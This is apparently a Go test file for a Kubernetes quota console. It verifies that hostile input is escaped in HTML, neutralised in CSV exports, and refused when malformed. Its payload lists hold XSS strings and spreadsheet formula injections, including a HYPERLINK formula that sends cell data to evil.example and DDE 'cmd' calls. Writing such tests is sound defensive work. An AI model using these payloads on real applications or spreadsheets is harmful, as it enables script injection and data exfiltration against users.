package handlers_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	apimeta "k8s.io/apimachinery/pkg/api/meta"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/util/rand"
	"k8s.io/apimachinery/pkg/util/wait"
	"k8s.io/client-go/util/retry"
	kueuev1beta2 "sigs.k8s.io/kueue/apis/kueue/v1beta2"

	"github.com/openquota/console/internal/kueue"
)

// hostilePayloads are strings that would run script if a page printed them
// unescaped, in text, in an attribute, or as a link.
var hostilePayloads = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`'><svg onload=alert(1)>`,
	`</textarea><script>alert(2)</script>`,
	`javascript:alert(1)`,
}

// csvPayloads are cells a spreadsheet would run as formulas.
var csvPayloads = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`+1+cmd|' /C calc'!A0`,
	`-1+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
}

// do sends a request through the handlers.
func (c console) request(t *testing.T, method, path, contentType, body string) *httptest.ResponseRecorder {
	t.Helper()
	req := httptest.NewRequest(method, path, strings.NewReader(body))
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	req.Header.Set("Sec-Fetch-Site", "same-origin") // as the console's own page
	rec := httptest.NewRecorder()
	c.h.ServeHTTP(rec, req)
	return rec
}

// checkNoMarkup fails when an HTML page carries a payload as markup.
func checkNoMarkup(t *testing.T, where, body string) {
	t.Helper()
	for _, p := range markupProblems(body) {
		t.Errorf("%s: %s", where, p)
	}
}

// markupProblems lists how a page carries a payload as markup: a raw
// payload, an element or attribute it would create, a javascript: link.
func markupProblems(body string) []string {
	var problems []string
	for _, p := range append(append([]string{}, hostilePayloads...), csvPayloads...) {
		if strings.ContainsAny(p, `<>"'&`) && strings.Contains(body, p) {
			problems = append(problems, fmt.Sprintf("the payload %q appears unescaped", p))
		}
	}
	doc, err := html.Parse(strings.NewReader(body))
	if err != nil {
		return append(problems, fmt.Sprintf("not HTML: %v", err))
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			switch n.Data {
			case "img", "iframe", "object", "embed", "base":
				problems = append(problems, fmt.Sprintf("unexpected <%s> element: %s", n.Data, nodeHTML(n)))
			case "script":
				// Only the console's own files; never inline code.
				if src := nodeAttr(n, "src"); !strings.HasPrefix(src, "/static/") || strings.TrimSpace(nodeText(n)) != "" {
					problems = append(problems, "a script that is not the console's: "+nodeHTML(n))
				}
			}
			for _, a := range n.Attr {
				key := strings.ToLower(a.Key)
				if strings.HasPrefix(key, "on") {
					problems = append(problems, fmt.Sprintf("event handler attribute %s=%q on <%s>", a.Key, a.Val, n.Data))
				}
				switch key {
				case "href", "src", "action", "formaction", "xlink:href":
					if v := strings.ToLower(strings.TrimSpace(a.Val)); strings.HasPrefix(v, "javascript:") || strings.HasPrefix(v, "data:") {
						problems = append(problems, fmt.Sprintf("<%s %s=%q>", n.Data, a.Key, a.Val))
					}
				}
			}
		}
		for ch := n.FirstChild; ch != nil; ch = ch.NextSibling {
			walk(ch)
		}
	}
	walk(doc)
	return problems
}

// The check itself catches each payload printed raw.
func TestHostileMarkupCheckCatchesInjection(t *testing.T) {
	clean := `<!DOCTYPE html><html><head><script src="/static/app.js" defer></script></head><body>` +
		`<textarea>&lt;script&gt;alert(1)&lt;/script&gt;</textarea><svg viewBox="0 0 1 1"></svg></body></html>`
	if p := markupProblems(clean); len(p) != 0 {
		t.Errorf("an escaped page reported: %v", p)
	}
	for _, page := range []string{
		`<p>` + hostilePayloads[0] + `</p>`,
		`<input value="` + hostilePayloads[1] + `">`,
		`<input value='` + hostilePayloads[2] + `'>`,
		`<textarea>` + hostilePayloads[3] + `</textarea>`,
		`<a href="` + hostilePayloads[4] + `">x</a>`,
		`<a href="/x" onclick="alert(1)">x</a>`,
	} {
		if len(markupProblems(page)) == 0 {
			t.Errorf("not caught: %s", page)
		}
	}
}

func nodeAttr(n *html.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

func nodeHTML(n *html.Node) string {
	var b strings.Builder
	_ = html.Render(&b, n)
	return b.String()
}

// find returns the first element matching ok, depth first.
func findNode(n *html.Node, ok func(*html.Node) bool) *html.Node {
	if n.Type == html.ElementNode && ok(n) {
		return n
	}
	for ch := n.FirstChild; ch != nil; ch = ch.NextSibling {
		if f := findNode(ch, ok); f != nil {
			return f
		}
	}
	return nil
}

func nodeText(n *html.Node) string {
	var b strings.Builder
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.TextNode {
			b.WriteString(n.Data)
		}
		for ch := n.FirstChild; ch != nil; ch = ch.NextSibling {
			walk(ch)
		}
	}
	walk(n)
	return b.String()
}

// finishedWorkload creates a Workload in ns on the team's LocalQueue and
// marks it Finished with message: Kueue leaves a finished Workload's status
// alone, so the message stays what the test set.
func (c console) finishedWorkload(t *testing.T, ns, lq, name, message string) {
	t.Helper()
	ctx := context.Background()
	wls := c.kueue.KueueV1beta2().Workloads(ns)
	res := corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("1")}
	wl := &kueuev1beta2.Workload{
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns},
		Spec: kueuev1beta2.WorkloadSpec{
			QueueName: kueuev1beta2.LocalQueueName(lq),
			PodSets: []kueuev1beta2.PodSet{{Name: "main", Count: 1, Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{
				RestartPolicy: corev1.RestartPolicyNever,
				Containers:    []corev1.Container{{Name: "main", Image: "trainer", Resources: corev1.ResourceRequirements{Requests: res}}},
			}}}},
		},
	}
	if _, err := wls.Create(ctx, wl, metav1.CreateOptions{}); err != nil {
		t.Fatalf("creating Workload %s: %v", name, err)
	}
	t.Cleanup(func() { _ = wls.Delete(context.Background(), name, metav1.DeleteOptions{}) })
	err := retry.RetryOnConflict(retry.DefaultRetry, func() error {
		cur, err := wls.Get(ctx, name, metav1.GetOptions{})
		if err != nil {
			return err
		}
		apimeta.SetStatusCondition(&cur.Status.Conditions, metav1.Condition{Type: kueuev1beta2.WorkloadFinished,
			Status: metav1.ConditionTrue, Reason: kueuev1beta2.WorkloadFinishedReasonSucceeded, Message: message})
		_, err = wls.UpdateStatus(ctx, cur, metav1.UpdateOptions{})
		return err
	})
	if err != nil {
		t.Fatalf("finishing Workload %s: %v", name, err)
	}
}

// Strings an admin typed into the team form and strings a Workload carries
// come out escaped on every page, and neutralized in CSV exports.
func TestHostileStringsAreEscaped(t *testing.T) {
	c := newConsole(t)
	ctx := context.Background()
	const team = "xss"
	t.Cleanup(func() {
		_ = kueue.Applier{Kube: c.kube, Kueue: c.kueue}.DeleteTeam(context.Background(), c.settings, team)
	})

	description := strings.Join(hostilePayloads, " ")
	users := strings.Join(hostilePayloads, "\n")
	groups := strings.Join(csvPayloads[:4], "\n") // a tab is not allowed in a name
	f := teamForm(team, "2")
	f.Set("enabled", "false") // held: Kueue admits nothing of the test's Workloads
	f.Set("description", description)
	f.Set("users", users)
	f.Set("groups", groups)
	code, location, body := c.post(t, "/teams", f)
	if code != http.StatusSeeOther {
		t.Fatalf("creating a team with hostile description and members: %d %q\n%s", code, location, body)
	}

	// Workloads whose Kueue messages are hostile.
	ns, lq := c.settings.Namespace(team), c.settings.LocalQueue(team)
	messages := map[string]string{}
	for i, m := range append(append([]string{}, hostilePayloads...), csvPayloads...) {
		name := fmt.Sprintf("hostile-%d", i)
		messages[name] = m
		c.finishedWorkload(t, ns, lq, name, m)
	}
	tasksCSV := "/tasks?team=" + team + "&state=all&format=csv&table=tasks"
	var rows map[string]map[string]string
	err := wait.PollUntilContextTimeout(ctx, 50*time.Millisecond, 30*time.Second, true, func(context.Context) (bool, error) {
		rows = c.csv(t, tasksCSV)
		for name, m := range messages {
			if r, ok := rows[ns+"/"+name]; !ok || !strings.Contains(r["Kueue message"], strings.TrimSpace(m)) {
				return false, nil
			}
		}
		return true, nil
	})
	if err != nil {
		t.Fatalf("the tasks CSV never listed the hostile Workloads with their messages: %v", rows)
	}

	// CSV: a cell a spreadsheet would evaluate starts with a quote.
	for name, m := range messages {
		got := rows[ns+"/"+name]["Kueue message"]
		if strings.ContainsRune("=+-@\t\r", rune(m[0])) {
			if got != "'"+m {
				t.Errorf("tasks CSV: message %q exported as %q, want it prefixed with '", m, got)
			}
		} else if got != m {
			t.Errorf("tasks CSV: message %q exported as %q", m, got)
		}
	}
	// Filter values from the URL land in CSV cells too (the class column).
	for _, p := range csvPayloads {
		for _, table := range []string{"classes", "breakdown"} {
			path := "/tasks?format=csv&table=" + table + "&state=all&class=" + url.QueryEscape(p)
			rec := c.request(t, http.MethodGet, path, "", "")
			records, err := csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll()
			if rec.Code != http.StatusOK || err != nil {
				t.Fatalf("GET %s: %d, %v", path, rec.Code, err)
			}
			for _, r := range records[1:] {
				for _, cell := range r {
					if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
						t.Errorf("GET %s: formula cell %q", path, cell)
					}
					if strings.HasPrefix(cell, "-") {
						if _, err := strconv.ParseFloat(cell, 64); err != nil {
							t.Errorf("GET %s: formula cell %q", path, cell)
						}
					}
				}
			}
		}
	}

	// HTML: every page, including ones that reflect the URL's values.
	q := url.QueryEscape
	pages := []string{
		"/", "/teams", "/teams/" + team + "/edit", "/teams/" + team + "/delete", "/teams/new",
		"/usage", "/usage/" + team, "/tasks", "/tasks?state=all", "/tasks?team=" + team + "&state=all", "/policy",
		"/reports/usage",
	}
	for _, p := range hostilePayloads {
		pages = append(pages,
			"/teams?saved="+q(p), "/teams?deleted="+q(p), "/policy?saved="+q(p),
			"/tasks?team="+q(p)+"&class="+q(p)+"&state="+q(p)+"&window="+q(p)+"&borrowing="+q(p),
			"/usage?resource="+q(p), "/usage/"+team+"?range="+q(p),
			"/reports/usage?from="+q(p)+"&to="+q(p),
			"/teams/derive?instanceType="+q(p)+"&gpus="+q(p),
			"/usage/"+url.PathEscape(p), "/teams/"+url.PathEscape(p)+"/edit")
	}
	for _, path := range pages {
		rec := c.request(t, http.MethodGet, path, "", "")
		if rec.Code >= 500 {
			t.Errorf("GET %s: %d\n%s", path, rec.Code, rec.Body.String())
			continue
		}
		ct := rec.Header().Get("Content-Type")
		switch {
		case strings.HasPrefix(ct, "text/html"):
			checkNoMarkup(t, "GET "+path, rec.Body.String())
		case strings.HasPrefix(ct, "application/json"):
			for _, p := range hostilePayloads {
				if strings.ContainsAny(p, "<>&") && strings.Contains(rec.Body.String(), p) {
					t.Errorf("GET %s: JSON carries %q unescaped", path, p)
				}
			}
		case strings.HasPrefix(ct, "text/plain"):
			// Error messages: never rendered as markup.
		default:
			t.Errorf("GET %s: unexpected content type %q", path, ct)
		}
	}

	// The edit form shows the hostile description and members back as text.
	rec := c.request(t, http.MethodGet, "/teams/"+team+"/edit", "", "")
	doc, err := html.Parse(strings.NewReader(rec.Body.String()))
	if err != nil {
		t.Fatal(err)
	}
	for id, want := range map[string]string{"description": description, "users": users, "groups": groups} {
		el := findNode(doc, func(n *html.Node) bool { return n.Data == "textarea" && nodeAttr(n, "id") == id })
		if el == nil {
			t.Errorf("edit form has no textarea #%s", id)
			continue
		}
		// The browser drops one newline right after <textarea>.
		if got := strings.TrimPrefix(nodeText(el), "\n"); got != want {
			t.Errorf("edit form #%s shows %q, want %q", id, got, want)
		}
	}

	// The tasks page shows each message as the tooltip of its row, as text.
	rec = c.request(t, http.MethodGet, "/tasks?team="+team+"&state=all", "", "")
	doc, err = html.Parse(strings.NewReader(rec.Body.String()))
	if err != nil {
		t.Fatal(err)
	}
	for name, m := range messages {
		row := findNode(doc, func(n *html.Node) bool { return n.Data == "tr" && nodeAttr(n, "data-task") == ns+"/"+name })
		if row == nil {
			t.Errorf("tasks page lists no %s", name)
			continue
		}
		why := findNode(row, func(n *html.Node) bool { return strings.Contains(nodeAttr(n, "class"), "why") })
		if why == nil || nodeAttr(why, "title") != m {
			t.Errorf("tasks page: %s has tooltip %q, want %q", name, nodeAttr(why, "title"), m)
		}
	}

	// A priority class name can never be hostile: the policy form refuses
	// it and shows it back escaped.
	for _, p := range hostilePayloads {
		form := url.Values{"prioritization": {"TaskRanking"}, "idleAllocation": {"FairShare"},
			"class.0.name": {p}, "class.0.weight": {"50"}}
		code, _, body := c.post(t, "/policy", form)
		if code != http.StatusUnprocessableEntity || !strings.Contains(body, `data-error-for="class.0.name"`) {
			t.Errorf("policy with class name %q: %d, want 422 with an error on the name", p, code)
		}
		checkNoMarkup(t, "POST /policy with class "+p, body)
	}
}

// garbageBody is a request body the forms must refuse without writing anything.
type garbageBody struct {
	name        string
	contentType string
	body        string
	// rerendered: the body parses as a form, so the answer is the form
	// again with its errors (422); otherwise any 4xx.
	rerendered bool
}

// repeated builds "k=v&k=v…" n times.
func repeatedKey(k, v string, n int) string {
	var b strings.Builder
	for i := 0; i < n; i++ {
		if i > 0 {
			b.WriteByte('&')
		}
		b.WriteString(url.QueryEscape(k) + "=" + url.QueryEscape(v))
	}
	return b.String()
}

func garbageBodies(base url.Values, rowKey func(i int) url.Values, poison url.Values) []garbageBody {
	const form = "application/x-www-form-urlencoded"
	with := func(extra url.Values) string {
		v := url.Values{}
		for k, vs := range base {
			v[k] = append([]string{}, vs...)
		}
		for k, vs := range poison {
			v[k] = append([]string{}, vs...)
		}
		for k, vs := range extra {
			v[k] = append(append([]string{}, vs...), v[k]...) // extra values come first: they are the ones read
		}
		return v.Encode()
	}
	// Big values, the whole body (about 400 kB encoded) still under the
	// console's 1 MiB body limit.
	huge := strings.Repeat("<script>alert(1)</script>", 2_000) // 50 kB
	rowsOf := func(n int) url.Values {
		rows := url.Values{}
		for i := 0; i < n; i++ {
			for k, vs := range rowKey(i) {
				rows[k] = vs
			}
		}
		return rows
	}
	return []garbageBody{
		{"huge values", form, with(url.Values{"name": {huge}, "description": {huge}, "users": {huge}, "class.0.name": {huge}, "prioritization": {huge}}), true},
		{"huge number", form, with(url.Values{"fairShareWeight": {strings.Repeat("9", 100_000)}, "class.0.weight": {strings.Repeat("9", 100_000)}}), true},
		{"invalid UTF-8", form, with(url.Values{"name": {"\xff\xfe\xfd"}, "description": {"\xc3\x28\xa0\xa1"}, "users": {"\xed\xa0\x80"},
			"class.0.name": {"\xff"}, "idleAllocation": {"\xe2\x82"}}), true},
		{"NUL and control characters", form, with(url.Values{"name": {"a\x00b"}, "groups": {"\x1b[31m"}, "class.0.name": {"a\x00"}}), true},
		{"repeated keys", form, with(nil) + "&" + repeatedKey("name", "Bad Name!", 1000) + "&" + repeatedKey("users", "alice", 5000) +
			"&" + repeatedKey("class.0.name", "x", 1000) + "&" + repeatedKey("quota.0.gpus", "-1", 1000), true},
		{"1,000 rows", form, with(rowsOf(1_000)), true},
		// More parameters than Go's url.ParseQuery accepts (10,000): the
		// form cannot be read, so no form to show again.
		{"10,000 rows", form, with(rowsOf(10_000)), false},
		{"odd row keys", form, with(url.Values{"quota.-1.gpus": {"1"}, "quota.99999999999999999999.gpus": {"1"}, "quota..gpus": {"1"},
			"class.-1.name": {"x"}, "class.1e3.name": {"y"}}), true},
		{"empty body", form, "", true},
		{"JSON body", "application/json", `{"name":"json-team","enabled":"true"}`, true},
		{"not percent-encoded", form, "name=%zz&enabled=%", false},
		{"semicolons", form, "name=a;enabled=true", false},
		{"broken multipart", "multipart/form-data; boundary=xyz", "--xyz\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\nx", false},
		{"body of 11 MB", form, "description=" + strings.Repeat("a", 11<<20), false},
	}
}

func checkGarbageRefused(t *testing.T, c console, path, formID string, g garbageBody) {
	t.Helper()
	rec := c.request(t, http.MethodPost, path, g.contentType, g.body)
	body := rec.Body.String()
	switch {
	case rec.Code >= 500:
		t.Errorf("POST %s (%s): %d, a server error\n%.500s", path, g.name, rec.Code, body)
	case rec.Code < 400:
		t.Errorf("POST %s (%s): %d, want it refused", path, g.name, rec.Code)
	case g.rerendered:
		if rec.Code != http.StatusUnprocessableEntity || !strings.Contains(body, `id="`+formID+`"`) || !strings.Contains(body, `id="form-errors"`) {
			t.Errorf("POST %s (%s): %d, want 422 with the form and its errors\n%.500s", path, g.name, rec.Code, body)
		}
		checkNoMarkup(t, "POST "+path+" ("+g.name+")", body)
	}
}

// Garbage posted to the forms is refused with a 4xx, the form shown again
// when it can be read, and nothing is written to the cluster.
func TestHostileFormBodiesAreRefused(t *testing.T) {
	c := newConsole(t)
	ctx := context.Background()
	id := rand.String(4)
	t.Cleanup(func() {
		a := kueue.Applier{Kube: c.kube, Kueue: c.kueue}
		for _, team := range []string{"json-team", "good-" + id} {
			_ = a.DeleteTeam(context.Background(), c.settings, team)
		}
		_ = c.kueue.KueueV1beta2().Cohorts().Delete(context.Background(), c.settings.Cohort, metav1.DeleteOptions{})
	})

	t.Run("teams", func(t *testing.T) {
		// A valid team, except for the poisoned field: any write would be
		// a ClusterQueue for "good-<id>".
		base := teamForm("good-"+id, "2")
		poison := url.Values{"fairShareWeight": {"101"}}
		rowKey := func(i int) url.Values {
			p := "quota." + strconv.Itoa(i) + "."
			return url.Values{p + "instanceType": {"ml.p5.48xlarge"}, p + "gpus": {"1"}}
		}
		for _, g := range garbageBodies(base, rowKey, poison) {
			t.Run(g.name, func(t *testing.T) { checkGarbageRefused(t, c, "/teams", "team-form", g) })
		}
		// Editing a team that does not exist is a 404, whatever the body.
		for _, g := range garbageBodies(base, rowKey, poison)[:3] {
			if rec := c.request(t, http.MethodPost, "/teams/nope-"+id, g.contentType, g.body); rec.Code != http.StatusNotFound {
				t.Errorf("POST /teams/nope-%s (%s): %d, want 404", id, g.name, rec.Code)
			}
		}
		cqs, err := c.kueue.KueueV1beta2().ClusterQueues().List(ctx, metav1.ListOptions{})
		if err != nil {
			t.Fatal(err)
		}
		for _, cq := range cqs.Items {
			if strings.HasPrefix(cq.Name, c.settings.NamespacePrefix) {
				t.Errorf("garbageBody wrote ClusterQueue %s", cq.Name)
			}
		}
		nss, err := c.kube.CoreV1().Namespaces().List(ctx, metav1.ListOptions{})
		if err != nil {
			t.Fatal(err)
		}
		for _, ns := range nss.Items {
			if strings.HasPrefix(ns.Name, c.settings.NamespacePrefix) {
				t.Errorf("garbageBody wrote namespace %s", ns.Name)
			}
		}
	})

	t.Run("policy", func(t *testing.T) {
		// A valid policy, except for the poisoned field: any write would
		// be the cohort and priority classes "good-<id>-N".
		base := url.Values{"prioritization": {"TaskRanking"}, "idleAllocation": {"FairShare"},
			"class.0.name": {"good-" + id + "-0"}, "class.0.weight": {"50"}}
		poison := url.Values{"class.1.name": {"good-" + id + "-1"}, "class.1.weight": {"101"}}
		rowKey := func(i int) url.Values {
			p := "class." + strconv.Itoa(i) + "."
			return url.Values{p + "name": {"good-" + id + "-" + strconv.Itoa(i)}, p + "weight": {"1"}}
		}
		for _, g := range garbageBodies(base, rowKey, poison) {
			t.Run(g.name, func(t *testing.T) { checkGarbageRefused(t, c, "/policy", "policy-form", g) })
		}
		if _, err := c.kueue.KueueV1beta2().Cohorts().Get(ctx, c.settings.Cohort, metav1.GetOptions{}); !apierrors.IsNotFound(err) {
			t.Errorf("garbageBody wrote the cohort %s (get: %v)", c.settings.Cohort, err)
		}
		wpcs, err := c.kueue.KueueV1beta2().WorkloadPriorityClasses().List(ctx, metav1.ListOptions{})
		if err != nil {
			t.Fatal(err)
		}
		for _, w := range wpcs.Items {
			if strings.HasPrefix(w.Name, "good-"+id) {
				t.Errorf("garbageBody wrote WorkloadPriorityClass %s", w.Name)
				_ = c.kueue.KueueV1beta2().WorkloadPriorityClasses().Delete(context.Background(), w.Name, metav1.DeleteOptions{})
			}
		}
	})
}
